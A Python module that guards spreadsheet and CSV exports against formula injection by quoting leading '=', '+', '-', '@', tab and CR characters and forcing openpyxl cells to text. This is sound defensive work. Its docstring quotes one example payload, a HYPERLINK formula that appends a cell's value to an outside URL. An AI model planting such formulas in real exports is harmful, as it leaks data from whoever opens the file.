"""Spreadsheets and CSV files the app writes: text stays text, never a formula.

A spreadsheet program runs a cell that starts with ``=`` (and, in a CSV file, also ``+ - @``, a tab or a
carriage return) as a formula, so a name such as ``=HYPERLINK("http://…?x="&B2,"Open")`` typed into an
officer's record would become a live link or command in whoever opens the export (OWASP: CSV injection).
Every XLSX row goes through :func:`append_row`, which writes each string as a string cell (openpyxl would
otherwise make ``=…`` a formula and ``#N/A`` an error value); every CSV field goes through :func:`csv_cell`,
which puts a single quote in front of a dangerous first character.

Pure: no Django, so the pure solver may use it too; openpyxl is imported by the caller's workbook.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

__all__ = ["FORMULA_TRIGGERS", "append_row", "csv_cell", "csv_row", "text_cell"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> str:
    """A CSV field as text: ``None`` is empty; a leading ``= + - @`` TAB or CR gets a ``'`` in front."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_row(values: Iterable[Any]) -> list[str]:
    """Every field of one CSV row through :func:`csv_cell` (hand the list to ``csv.writer``)."""
    return [csv_cell(value) for value in values]


def text_cell(sheet: Worksheet, value: str) -> Any:
    """A cell of ``sheet`` holding ``value`` as a string, whatever its first character."""
    from openpyxl.cell.cell import Cell

    cell = Cell(sheet, row=1, column=1, value=value)  # append() moves it to its place
    cell.data_type = "s"  # openpyxl guessed "f" for "=…" and "e" for "#N/A": text it is
    if value.startswith(FORMULA_TRIGGERS):
        cell.quotePrefix = True  # and the program keeps it text when someone edits the cell
    return cell


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)``, with every string written as text (numbers and dates stay as they are)."""
    sheet.append([text_cell(sheet, value) if isinstance(value, str) else value for value in values])
